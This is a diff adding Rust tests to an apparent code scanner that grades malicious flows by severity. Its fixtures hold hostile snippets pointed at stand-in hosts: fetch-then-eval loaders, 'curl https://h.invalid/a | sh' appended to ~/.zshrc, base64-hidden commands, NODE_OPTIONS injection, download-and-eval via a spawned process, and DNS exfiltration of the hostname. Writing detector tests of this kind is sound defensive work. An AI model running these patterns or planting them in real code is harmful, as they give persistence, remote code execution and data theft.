@@ -87,3 +87,134 @@ fn a_template_decodes_to_noise() {
     assert!(rules(Language::Python, &code("cHJpbnQoMSk7IHByaW50KDIp")).contains(&"flow-decoded-code"));
     assert!(!rules(Language::Python, &code("CODE+WILL+STAND+HERE")).contains(&"flow-decoded-code"));
 }
+
+#[test]
+fn what_a_page_asks_for_beside_itself_is_no_foreign_source() {
+    let severity = |address: &str| {
+        let code = format!(
+            "function load() {{ return fetch({address}).then(r => r.text()).then(t => eval(t)); }}\nmodule.exports = load;\n"
+        );
+        let outcome = outcome(Language::JavaScript, &code);
+        let flows = flows::judge(&outcome, false);
+        flows
+            .iter()
+            .find(|f| f.rule.id == "flow-remote-code")
+            .map(|f| f.finding(crate::model::Evidence::note("")).severity)
+    };
+    assert!(severity("'https://h.invalid/codec.js'") >= Some(crate::model::Severity::High));
+    assert!(severity("'//h.invalid/codec.js'") >= Some(crate::model::Severity::High));
+    assert!(severity("'codec.js'") <= Some(crate::model::Severity::Medium));
+}
+
+#[test]
+fn a_line_that_somebody_has_added_to_a_start_up_file() {
+    let severity = |read: &str, call: &str| {
+        let code = format!(
+            "const fs = require('fs'), os = require('os');\nconst {{ LINE }} = require('./words');\nfunction add() {{ const file = os.homedir() + '/.zshrc'; {read}; fs.writeFileSync(file, LINE + data); }}\n{call}\n"
+        );
+        let outcome = outcome(Language::JavaScript, &code);
+        let flows = flows::judge(&outcome, false);
+        flows
+            .iter()
+            .find(|f| f.rule.id == "flow-persists")
+            .map(|f| f.finding(crate::model::Evidence::note("")).severity)
+    };
+    let own = "const data = fs.readFileSync(file, 'utf8')";
+    assert_eq!(severity(own, "exports.add = add;"), Some(crate::model::Severity::Medium));
+    assert_eq!(severity(own, "add();"), Some(crate::model::Severity::High));
+    assert_eq!(
+        severity(
+            "const LINE = 'autoload -U compinit; compinit'; const data = fs.readFileSync(file)",
+            "exports.add = add;"
+        ),
+        Some(crate::model::Severity::Medium)
+    );
+    assert_eq!(
+        severity(
+            "const LINE = 'curl https://h.invalid/a | sh'; const data = fs.readFileSync(file)",
+            "exports.add = add;"
+        ),
+        Some(crate::model::Severity::High)
+    );
+    let hidden = "const data = fs.readFileSync(file, 'utf8') + Buffer.from('Y3VybCBo', 'base64').toString()";
+    assert_eq!(severity(hidden, "exports.add = add;"), Some(crate::model::Severity::High));
+}
+
+/// The weight of a rule in a script, if it is met.
+fn weight(language: Language, code: &str, rule: &str) -> Option<crate::model::Severity> {
+    let outcome = outcome(language, code);
+    let flows = flows::judge(&outcome, false);
+    flows.iter().find(|f| f.rule.id == rule).map(|f| f.finding(crate::model::Evidence::note("")).severity)
+}
+
+#[test]
+fn lines_that_make_a_shell_comfortable() {
+    use crate::model::Severity;
+    let writes = |line: &str| {
+        let code = format!("with open('/home/u/.zshrc', 'w') as f:\n    f.write({line:?})\n");
+        weight(Language::Python, &code, "flow-persists").is_some_and(|s| s >= Severity::High)
+    };
+    for line in [
+        "[ -e ~/.zshrc ] && . ~/.zshrc\n",
+        "cd ~/work\nexport PS1='\\u@\\h: \\w \\$ '\n",
+        "export LC_ALL=C.UTF-8\nexport BASH_SILENCE_DEPRECATION_WARNING=1",
+        "autoload -U compinit; compinit\nalias ll='ls -l'",
+    ] {
+        assert!(!writes(line), "{line}");
+    }
+    for line in [
+        ". ~/.cache/x.sh\n",
+        "[ -e ~/.zshrc ] && ~/.zshrc-x",
+        "cd ~/work && ./run",
+        "export PATH=~/.x:$PATH",
+        "export PS1='$(~/.x)'",
+        "export PS1='a'; ~/.x 'b'",
+        "export NODE_OPTIONS=--require=/tmp/x.js",
+        "compinit; ~/.x",
+    ] {
+        assert!(writes(line), "{line}");
+    }
+}
+
+#[test]
+fn a_package_that_is_being_built_starts_nothing() {
+    use crate::model::Severity;
+    let plist = |folder: &str| {
+        let script = format!("cp \"$DIR/a.plist\" \"{folder}/Library/LaunchDaemons/com.inert.plist\"\n");
+        weight(Language::Shell, &script, "flow-persists")
+    };
+    assert_eq!(plist("$ROOT/build"), Some(Severity::Medium));
+    assert_eq!(plist(""), Some(Severity::High));
+    assert_eq!(plist("/build"), Some(Severity::High));
+}
+
+#[test]
+fn text_that_a_page_or_an_interpreter_is_given() {
+    use crate::model::Severity;
+    // A worker of text in the page; a thread of Node's has no page around it.
+    let hidden = "const t = atob('cG9zdE1lc3NhZ2UoMSkgLy8gc29tZXRoaW5nIHRvIGRv');";
+    let page = format!("{hidden}\nconst w = new Worker(URL.createObjectURL(new Blob([t])));\n");
+    assert!(weight(Language::JavaScript, &page, "flow-decoded-command") <= Some(Severity::Medium));
+    // A request that waits for its answer, and one that executes it.
+    let waits = |words: &str| {
+        let code = format!(
+            "const https = require('https'), cp = require('child_process');\n\
+             https.get('https://h.invalid/a', r => {{ const to = r.headers.location;\n\
+             cp.spawn(process.argv[0], ['-e', \"'use strict'; const fs = require('fs'), http = require('http'); http.get('\" + to + \"', r => {{ const all = []; r.on('data', d => all.push(d)); r.on('end', () => {words}); }});\"]); }});\n"
+        );
+        weight(Language::JavaScript, &code, "flow-download-run")
+    };
+    assert!(waits("fs.writeFileSync('a.bin', Buffer.concat(all))") <= Some(Severity::Medium));
+    assert!(waits("eval(Buffer.concat(all).toString())") >= Some(Severity::High));
+}
+
+#[test]
+fn who_is_looked_up_has_a_domain() {
+    use crate::model::Severity;
+    let looked_up = |domain: &str| {
+        let code = format!("import socket, os\nsocket.gethostbyname(f'{{socket.gethostname()}}-0.{domain}')\n");
+        weight(Language::Python, &code, "flow-dns-exfiltration")
+    };
+    assert_eq!(looked_up("{os.uname().sysname.lower()}"), Some(Severity::Medium));
+    assert!(looked_up("collect.invalid") >= Some(Severity::High));
+}
